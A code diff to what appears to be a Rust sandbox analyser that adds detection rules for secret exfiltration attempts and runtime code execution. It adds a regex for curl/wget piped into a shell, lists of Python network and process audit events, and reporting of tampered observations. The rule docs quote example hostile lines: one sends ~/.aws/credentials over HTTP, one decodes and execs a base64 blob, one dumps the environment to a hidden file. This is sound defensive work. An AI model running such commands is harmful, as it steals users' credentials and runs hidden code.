@@ -1,6 +1,6 @@
 //! From evidence to G3's report: observed capabilities and SK9xx findings.
 
-use crate::evidence::{Destination, Event, EventKind, Evidence};
+use crate::evidence::{Destination, Event, EventKind, Evidence, RunnerKind};
 use crate::plan::Plan;
 use regex::Regex;
 use skillgate_model::bundle::Bundle;
@@ -99,6 +99,30 @@ credentials into its outputs.\n\
 Example: `env > /tmp/.cache/e.txt`.",
     },
     RuleInfo {
+        code: "SK911",
+        slug: "exfiltration-intent",
+        severity: Severity::Critical,
+        summary: "a script tried to send a honeytoken's canary: in a request, a connection, a host name or a command",
+        docs: "What: the WASI runner's audit hook saw a network or process call whose arguments \
+carry a canary: `urllib.Request` or `requests.post` with the secret in the body, URL or headers, \
+a host name built from it, a command line holding it. WASI has no network, so nothing left; \
+the attempt is the evidence.\n\
+Why: the script read a secret and handed it to something that sends data away: theft, stopped \
+only because the sandbox had no network.\n\
+Example: `urllib.request.urlopen(url, data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())`.",
+    },
+    RuleInfo {
+        code: "SK912",
+        slug: "runtime-code-executed",
+        severity: Severity::Low,
+        summary: "a script executed code it built at run time (exec of a decoded string, marshal, code objects)",
+        docs: "What: the WASI runner's audit hook saw `exec`/`eval` of code compiled from a string, \
+`marshal.loads` or a code object built by hand.\n\
+Why: decoding and executing hides what a script does from review; together with a network or \
+credential finding it is how droppers work. Alone it is low: some tools evaluate expressions.\n\
+Example: `exec(base64.b64decode(blob))`.",
+    },
+    RuleInfo {
         code: "SK910",
         slug: "credential-sent-to-own-service",
         severity: Severity::Info,
@@ -136,6 +160,10 @@ fn host_matches(host: &str, domain: &str) -> bool {
 
 static HOST: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,63}\b|\b\d{1,3}(?:\.\d{1,3}){3}\b")
+        .expect("valid regex")
+});
+static PIPED_DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:curl|wget)\b[^|]*\|\s*python3?\b")
         .expect("valid regex")
 });
 static URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
@@ -266,10 +294,21 @@ pub fn report(bundle: &Bundle, plan: &Plan, evidence: &Evidence, runner: &str) -
     filesystem(evidence, &mut findings, &mut caps);
     processes(evidence, &mut findings, &mut caps);
 
+    runtime_code(evidence, &mut findings, &mut caps);
+
     let mut problems: Vec<String> = evidence.errors.clone();
+    let native = evidence.runner == RunnerKind::Native;
     let missing = evidence.layers.missing();
-    if !missing.is_empty() && evidence.errors.is_empty() {
+    if native && !missing.is_empty() && evidence.errors.is_empty() {
         problems.push(format!("isolation layers missing: {}", missing.join(", ")));
+    }
+    for event in &evidence.events {
+        if let EventKind::Tamper { what } = &event.kind {
+            problems.push(format!(
+                "observation tampered with: {what}{}",
+                step_label(evidence, event)
+            ));
+        }
     }
     let started = evidence.steps.iter().filter(|s| s.error.is_none()).count();
     let failed: Vec<String> = evidence
@@ -286,24 +325,29 @@ pub fn report(bundle: &Bundle, plan: &Plan, evidence: &Evidence, runner: &str) -
     let timed_out = evidence.steps.iter().filter(|s| s.timed_out).count();
     let layers = &evidence.layers;
     let mut note = format!(
-        "{runner}: {started}/{} steps ran, {} events, {} honeytokens; layers: userns+netns+mountns+pidns, \
-         nested userns, no_new_privs, Landlock ABI {}{}, seccomp notify, capture{}; kernel {}",
-        plan.steps.len(),
+        "{runner}: {started}/{} steps ran, {} events, {} honeytokens",
+        evidence.steps.len(),
         evidence.events.len(),
         evidence.honeytokens.len(),
-        layers.landlock_abi,
-        if layers.landlock_enforced {
-            " enforced"
-        } else {
-            " NOT enforced"
-        },
-        if layers.mptcp_disabled {
-            ", MPTCP off"
-        } else {
-            ""
-        },
-        layers.kernel,
     );
+    if native {
+        note.push_str(&format!(
+            "; layers: userns+netns+mountns+pidns, nested userns, no_new_privs, Landlock ABI {}{}, \
+             seccomp notify, capture{}; kernel {}",
+            layers.landlock_abi,
+            if layers.landlock_enforced {
+                " enforced"
+            } else {
+                " NOT enforced"
+            },
+            if layers.mptcp_disabled {
+                ", MPTCP off"
+            } else {
+                ""
+            },
+            layers.kernel,
+        ));
+    }
     if timed_out > 0 {
         note.push_str(&format!("; {timed_out} steps hit the time limit"));
     }
@@ -333,10 +377,10 @@ fn finding(code: &str, severity: Severity, confidence: Confidence, message: Stri
         .find(|r| r.code == code)
         .expect("known G3 rule");
     let category = match code {
-        "SK901" | "SK903" | "SK909" | "SK910" => "exfiltration",
+        "SK901" | "SK903" | "SK909" | "SK910" | "SK911" => "exfiltration",
         "SK902" => "credentials",
         "SK904" | "SK907" => "persistence",
-        "SK905" => "execution",
+        "SK905" | "SK912" => "execution",
         _ => "destruction",
     };
     Finding::new(code, Gate::G3, severity, confidence, category, message)
@@ -365,8 +409,56 @@ fn event_host(event: &Event) -> Option<String> {
             let joined = argv.join(" ");
             URL_HOST.captures(&joined).map(|c| c[1].to_string())
         }
+        EventKind::Audit { event, args } => audit_host(event, args),
         _ => None,
     }
+}
+
+/// Audit events that address the network, and where their destination sits in the arguments.
+const AUDIT_NETWORK: &[&str] = &[
+    "urllib.Request",
+    "requests.request",
+    "http.client.connect",
+    "http.client.send",
+    "socket.connect",
+    "socket.sendto",
+    "socket.sendmsg",
+    "socket.getaddrinfo",
+    "socket.gethostbyname",
+    "smtplib.connect",
+    "smtplib.send",
+    "ftplib.connect",
+    "imaplib.open",
+    "poplib.connect",
+    "telnetlib.open",
+    "webbrowser.open",
+];
+const AUDIT_PROCESS: &[&str] = &[
+    "subprocess.Popen",
+    "os.system",
+    "os.exec",
+    "os.posix_spawn",
+    "os.spawn",
+    "pty.spawn",
+];
+
+/// The host an audit event addresses: the URL's host, or the host argument of a socket or
+/// client call.
+fn audit_host(event: &str, args: &str) -> Option<String> {
+    if !AUDIT_NETWORK.contains(&event) {
+        return None;
+    }
+    if let Some(c) = URL_HOST.captures(args) {
+        return Some(c[1].to_string());
+    }
+    let value: serde_json::Value = serde_json::from_str(args).ok()?;
+    let host = match event {
+        "socket.getaddrinfo" | "socket.gethostbyname" => value.get(0)?.as_str()?.to_string(),
+        "socket.connect" | "socket.sendto" => value.get(1)?.get(0)?.as_str()?.to_string(),
+        _ => value.get(1)?.as_str()?.to_string(),
+    };
+    let host = host.trim().to_string();
+    (!host.is_empty() && HOST.is_match(&host)).then_some(host)
 }
 
 fn describe(event: &Event) -> String {
@@ -393,6 +485,9 @@ fn describe(event: &Event) -> String {
         EventKind::Exec { argv, .. } => format!("exec {}", argv.join(" ")),
         EventKind::FileWritten { path, .. } => format!("file {path}"),
         EventKind::Connect { dst } => format!("connect to {dst}"),
+        EventKind::Audit { event, args } => {
+            format!("{event}({})", skillgate_model::finding::clip(args, 300))
+        }
         other => format!("{other:?}"),
     }
 }
@@ -417,6 +512,20 @@ fn exfiltration(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTr
         });
         let (code, key) = if hit.place == "file" {
             ("SK909", "file")
+        } else if hit.place == "intent" {
+            // Only calls that send something away count; a canary in `open` or `import`
+            // arguments is a read, not a send.
+            let EventKind::Audit { event: name, .. } = &event.kind else {
+                continue;
+            };
+            if !AUDIT_NETWORK.contains(&name.as_str()) && !AUDIT_PROCESS.contains(&name.as_str()) {
+                continue;
+            }
+            if own_service {
+                ("SK910", "own")
+            } else {
+                ("SK911", "intent")
+            }
         } else if own_service {
             ("SK910", "own")
         } else {
@@ -433,12 +542,16 @@ fn exfiltration(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTr
         let message = format!(
             "canary of honeytoken `{}` seen in {}{how}: {}{}",
             hit.honeytoken,
-            hit.place,
+            if hit.place == "intent" {
+                "the arguments of a call the WASI runner could not carry out"
+            } else {
+                hit.place.as_str()
+            },
             describe(event),
             step_label(evidence, event)
         );
         let f = match code {
-            "SK901" => {
+            "SK901" | "SK911" => {
                 caps.insert(Capability::NetEgress);
                 caps.insert(Capability::SecretRead);
                 finding(code, Severity::Critical, Confidence::High, message)
@@ -512,9 +625,9 @@ fn egress(
                 }
                 (dst.hostname.clone(), Some(dst.ip.clone()))
             }
-            EventKind::HttpRequest { .. } | EventKind::TlsClientHello { .. } => {
-                (event_host(event), None)
-            }
+            EventKind::HttpRequest { .. }
+            | EventKind::TlsClientHello { .. }
+            | EventKind::Audit { .. } => (event_host(event), None),
             _ => continue,
         };
         let Some(name) = host.or(ip) else { continue };
@@ -706,6 +819,60 @@ fn processes(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeS
                 );
             }
             _ => {}
+        }
+    }
+}
+
+/// Code built at run time and executed (audit `exec` of a string, `marshal.loads`, code objects
+/// built by hand), and the process and network intents WASI could not carry out.
+fn runtime_code(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
+    let mut reported = false;
+    for event in &evidence.events {
+        let EventKind::Audit { event: name, args } = &event.kind else {
+            continue;
+        };
+        if AUDIT_PROCESS.contains(&name.as_str()) {
+            caps.insert(Capability::ProcExec);
+            if PIPED_DOWNLOAD.is_match(args) {
+                caps.insert(Capability::CodeDynamic);
+                let what = format!("{name}({})", skillgate_model::finding::clip(args, 200));
+                findings.push(
+                    finding(
+                        "SK905",
+                        Severity::High,
+                        Confidence::High,
+                        format!(
+                            "a command that pipes a download into an interpreter: {what}{}",
+                            step_label(evidence, event)
+                        ),
+                    )
+                    .with_capability(Capability::CodeDynamic)
+                    .with_stage(KillChainStage::Execution)
+                    .with_evidence(&what),
+                );
+            }
+        }
+        if AUDIT_NETWORK.contains(&name.as_str()) {
+            caps.insert(Capability::NetEgress);
+        }
+        let runtime = matches!(name.as_str(), "exec" | "marshal.loads" | "code.__new__");
+        if runtime && !reported {
+            reported = true;
+            caps.insert(Capability::CodeDynamic);
+            findings.push(
+                finding(
+                    "SK912",
+                    Severity::Low,
+                    Confidence::High,
+                    format!("{}{}", describe(event), step_label(evidence, event)),
+                )
+                .with_capability(Capability::CodeDynamic)
+                .with_stage(KillChainStage::Execution)
+                .with_evidence(&format!(
+                    "{name}({})",
+                    skillgate_model::finding::clip(args, 200)
+                )),
+            );
         }
     }
 }
